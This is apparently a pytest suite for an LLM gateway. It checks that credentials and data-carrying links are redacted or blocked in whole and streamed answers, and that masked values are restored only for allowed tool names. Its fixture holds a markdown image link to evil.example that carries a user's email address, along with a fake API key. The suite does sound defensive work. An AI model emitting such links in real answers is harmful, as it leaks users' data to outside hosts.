"""Answers on their way to the client: what is put back where, what is taken out, what the outcome's record says."""

import asyncio
import json
import re
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from starlette.requests import Request
from starlette.responses import Response

from gateway.pipeline import Engine
from tests.fakes.engines import POLICY, engine
from tests.fakes.recognizers import FakeRecognizer
from tests.fakes.world import Scripted, World, answers, streams, world

KEY = "sk-Q8zt2mVx7Lp4"
USER = {"role": "user", "content": "What is the key? Write to martha@nordhavn-clinic.com"}
TEXT = f"The key is {KEY} and more. ![x](https://evil.example/?q=martha@nordhavn-clinic.com) Bye"
CLEAN = "The key is [REDACTED_CREDENTIAL] and more. ![x](#link-removed) Bye"
SPEAKS = {name: {"dialects": ["openai", "anthropic"]} for name in ("cloud", "local")}


def by(scan: str, restore: str = "") -> Engine:
    return engine(POLICY.replace("  rules:\n", f"  answers: {{scan: {{{scan}}}, restore: {{{restore}}}}}\n  rules:\n"))


REDACTS = "types: {CREDENTIAL: redact, EXFILTRATION_LINK: redact}, levels: {high: flag, moderate: flag}"


def sse(*events: dict[str, Any], named: bool = False) -> list[bytes]:
    lines = [f"event: {event['type']}\n" if named else "" for event in events]
    whole = "".join(f"{line}data: {json.dumps(event)}\n\n" for line, event in zip(lines, events, strict=True)).encode()
    return [whole[at : at + 61] for at in range(0, len(whole), 61)]


def cut(text: str) -> list[str]:
    return [text[at : at + 4] for at in range(0, len(text), 4)]


def chat_events(text: str) -> list[bytes]:
    deltas = [{"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]} for piece in cut(text)]
    return sse(*deltas, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})


def completions_events(text: str) -> list[bytes]:
    pieces = [{"choices": [{"index": 0, "text": piece, "finish_reason": None}]} for piece in cut(text)]
    return sse(*pieces, {"choices": [{"index": 0, "text": "", "finish_reason": "stop"}]})


def responses_events(text: str) -> list[bytes]:
    place = {"item_id": "i", "output_index": 0, "content_index": 0}
    item = {"id": "i", "type": "message", "content": [{"type": "output_text", "text": text, "annotations": []}]}
    return sse(
        *({"type": "response.output_text.delta", **place, "delta": piece} for piece in cut(text)),
        {"type": "response.output_text.done", **place, "text": text},
        {"type": "response.content_part.done", **place, "part": item["content"][0]},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
        {"type": "response.completed", "response": {"output": [item]}},
        named=True,
    )


def messages_events(text: str) -> list[bytes]:
    return sse(
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        *(
            {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
            for piece in cut(text)
        ),
        {"type": "content_block_stop", "index": 0},
        {"type": "message_stop"},
        named=True,
    )


MESSAGE = {"content": [{"type": "text", "text": TEXT}]}
RESPONSE = {"output": [{"type": "message", "content": [{"type": "output_text", "text": TEXT}]}]}
APIS: dict[str, tuple[dict[str, Any], dict[str, Any], Any]] = {
    "/v1/chat/completions": ({"messages": [USER]}, {"choices": [{"message": {"content": TEXT}}]}, chat_events),
    "/v1/completions": ({"prompt": USER["content"]}, {"choices": [{"text": TEXT}]}, completions_events),
    "/v1/responses": ({"input": [USER]}, RESPONSE, responses_events),
    "/v1/messages": ({"messages": [USER], "max_tokens": 9}, MESSAGE, messages_events),
}
EACH = pytest.mark.parametrize("path", APIS)


def texts_of(value: Any) -> list[str]:
    """Return the texts of an answer or an event that hold what a model wrote."""
    if isinstance(value, dict):
        found = [value[key] for key in ("text", "content", "delta") if isinstance(value.get(key), str)]
        return found + [text for child in value.values() for text in texts_of(child)]
    return [text for child in value for text in texts_of(child)] if isinstance(value, list) else []


def events_of(body: str) -> list[Any]:
    return [json.loads(line[6:]) for line in body.splitlines() if line.startswith("data: {")]


def outcomes(w: World) -> list[dict[str, Any]]:
    return [record for line in w.log().splitlines() if (record := json.loads(line))["event"] == "outcome"]


async def ask(w: World, path: str, **more: Any) -> Any:
    return await w.app.post(path, json={"model": "m", **APIS[path][0], **more})


def fleet(path: str, *, stream: bool) -> dict[str, Any]:
    _, whole, events = APIS[path]
    return {"cloud": Scripted("cloud", streams(events(TEXT)) if stream else answers(200, whole))}


@EACH
async def test_keys_and_carrying_links_are_taken_out_of_a_whole_answer(tmp_path: Path, path: str) -> None:
    async with world(tmp_path, by(REDACTS), fleet(path, stream=False), more=SPEAKS) as w:
        response = await ask(w, path)
        assert CLEAN in texts_of(response.json())
        assert KEY not in response.text
        assert "evil.example" not in response.text
    (outcome,) = outcomes(w)
    assert outcome["answer"] == {
        "risk": 0.99,
        "found": {"CREDENTIAL": 1, "EXFILTRATION_LINK": 1},
        "redacted": {"CREDENTIAL": 1, "EXFILTRATION_LINK": 1},
        "withheld": {},
        "blocked": False,
    }


@EACH
async def test_keys_and_carrying_links_are_taken_out_of_a_stream_in_every_telling(tmp_path: Path, path: str) -> None:
    async with world(tmp_path, by(REDACTS), fleet(path, stream=True), more=SPEAKS) as w:
        response = await ask(w, path, stream=True)
        assert KEY not in response.text
        assert "evil.example" not in response.text
        events = events_of(response.text)
        told = [text for event in events for text in texts_of(event)]
        joined = "".join(told)
        assert joined.startswith(CLEAN)
        if path == "/v1/responses":
            assert joined == CLEAN * 5
        for part in ("Q8zt", "2mVx", "7Lp4", "nordhavn"):
            assert part not in joined
    (outcome,) = outcomes(w)
    assert outcome["answer"]["redacted"] == {"CREDENTIAL": 1, "EXFILTRATION_LINK": 1}


async def test_a_long_answer_that_waited_for_a_thread_held_the_next_requests_up(tmp_path: Path) -> None:
    path = "/v1/chat/completions"
    cloud = Scripted("cloud", streams(chat_events(f"{TEXT} {'and so on, as it was said. ' * 450}")))
    free = threading.Event()
    threads = ThreadPoolExecutor(1)
    async with asyncio.timeout(180), world(tmp_path, by(REDACTS), {"cloud": cloud}, more=SPEAKS) as w:
        asyncio.get_running_loop().set_default_executor(threads)
        threads.submit(free.wait)
        try:
            for _ in range(6):  # what nobody waits for begins a little later
                async with asyncio.timeout(20):
                    assert KEY not in (await ask(w, path, stream=True)).text
        finally:
            free.set()
    assert [outcome["answer"]["found"]["CREDENTIAL"] for outcome in outcomes(w)] == [1] * 6


@EACH
@pytest.mark.parametrize("stream", [False, True])
async def test_a_blocked_answer_ends_with_an_error_and_shows_no_more(tmp_path: Path, path: str, stream: bool) -> None:  # noqa: FBT001
    async with world(tmp_path, by("types: {CREDENTIAL: block}"), fleet(path, stream=stream), more=SPEAKS) as w:
        response = await ask(w, path, stream=stream)
        assert "blocked_by_policy" in response.text
        assert response.status_code == (200 if stream else 403)
        for part in ("Q8zt", "7Lp4", "evil.example", "Bye"):
            assert part not in response.text
    (outcome,) = outcomes(w)
    assert (outcome["status"], outcome["answer"]["blocked"]) == (403, True)


@pytest.mark.parametrize("stream", [False, True])
async def test_a_recognizer_that_fails_at_the_answer_keeps_it_back(tmp_path: Path, stream: bool) -> None:  # noqa: FBT001
    class FailsAtKeys(FakeRecognizer):
        def analyze(self, segments: Any) -> Any:
            if any(KEY in segment.text for segment in segments):
                raise RuntimeError(KEY)
            return super().analyze(segments)

    path = "/v1/chat/completions"
    policy = POLICY.replace("  rules:\n", f"  answers: {{scan: {{{REDACTS}}}}}\n  rules:\n")
    failing = engine(policy, recognizers=[FailsAtKeys()])
    async with world(tmp_path, failing, fleet(path, stream=stream), more=SPEAKS) as w:
        response = await ask(w, path, stream=stream)
        assert "blocked_by_policy" in response.text
        assert "7Lp4" not in response.text
    assert outcomes(w)[0]["answer"]["found"] == {"UNREAD": 1}
    assert KEY not in w.log()


@EACH
async def test_where_nothing_is_asked_for_the_very_bytes_pass(tmp_path: Path, path: str) -> None:
    request, _, events = APIS[path]
    plain = json.loads(json.dumps(request).replace("Write to martha@nordhavn-clinic.com", "Tell."))
    for asked, text in (
        ("levels: {low: pass}", TEXT),
        (REDACTS, "It is warm, 17 degrees in 2024. See https://x.example/a"),
    ):
        upstream = {"cloud": Scripted("cloud", streams(events(text)))}
        async with world(tmp_path / str(len(asked)), by(asked), upstream, more=SPEAKS) as w:
            response = await w.app.post(path, json={"model": "m", **plain, "stream": True})
            if asked == REDACTS:
                told = [one for event in events_of(response.text) for one in texts_of(event)]
                assert "".join(told).startswith(text)
            else:
                assert response.content == b"".join(events(text))


CALL = '{"to":"§","url":"https://crm.example/?m=§"}'


def call_events(path: str, name: str, arguments: str) -> list[bytes]:
    if path == "/v1/chat/completions":
        first = {"tool_calls": [{"index": 0, "id": "c", "function": {"name": name, "arguments": ""}}]}
        rest = [{"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} for piece in cut(arguments)]
        return sse(*({"choices": [{"index": 0, "delta": delta}]} for delta in (first, *rest)))
    if path == "/v1/responses":
        place = {"item_id": "i", "output_index": 0}
        item = {"id": "i", "type": "function_call", "name": name, "arguments": ""}
        return sse(
            {"type": "response.output_item.added", "output_index": 0, "item": item},
            *({"type": "response.function_call_arguments.delta", **place, "delta": piece} for piece in cut(arguments)),
            {"type": "response.function_call_arguments.done", **place, "arguments": arguments},
            {"type": "response.output_item.done", "output_index": 0, "item": {**item, "arguments": arguments}},
            {"type": "response.completed", "response": {"output": [{**item, "arguments": arguments}]}},
            named=True,
        )
    return sse(
        {
            "type": "content_block_start",
            "index": 0,
            "content_block": {"type": "tool_use", "id": "t", "name": name, "input": {}},
        },
        *(
            {"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": piece}}
            for piece in cut(arguments)
        ),
        {"type": "content_block_stop", "index": 0},
        named=True,
    )


def arguments_of(path: str, events: list[Any]) -> list[str]:
    """Return the arguments as each telling of them has it."""
    if path == "/v1/chat/completions":
        calls = [call for event in events for call in event["choices"][0]["delta"].get("tool_calls", ())]
        return ["".join(call["function"].get("arguments", "") for call in calls)]
    if path == "/v1/messages":
        return ["".join(event["delta"]["partial_json"] for event in events if event["type"] == "content_block_delta")]
    deltas = "".join(event["delta"] for event in events if event["type"].endswith(".delta"))
    done, item, whole = events[-3]["arguments"], events[-2]["item"]["arguments"], events[-1]["response"]["output"][0]
    return [deltas, done, item, whole["arguments"]]


@pytest.mark.parametrize("path", [path for path in APIS if path != "/v1/completions"])
@pytest.mark.parametrize(
    ("name", "gets"), [("crm_find", True), ("http_get", False), ("HTTP_GET", False), ("other", False)]
)
async def test_tools_get_values_by_their_names(tmp_path: Path, path: str, name: str, gets: bool) -> None:  # noqa: FBT001
    restore = 'tools: {allow: ["crm_*", "http_*"], deny: ["http_get"]}'
    source: list[str] = []

    async def handle(http: Request) -> Response:
        surrogate = re.search(rb"<EMAIL_ADDRESS_\w+>", await http.body())
        assert surrogate is not None
        source[:] = [CALL.replace("§", surrogate[0].decode())]
        return await streams(call_events(path, name, source[0]))(http)

    upstreams: dict[str, Any] = {"cloud": Scripted("cloud", handle)}
    async with world(tmp_path, by("", restore), upstreams, more=SPEAKS) as w:
        events = events_of((await ask(w, path, stream=True)).text)
        expected = CALL.replace("§", "martha@nordhavn-clinic.com") if gets else source[0]
        assert set(arguments_of(path, events)) == {expected}
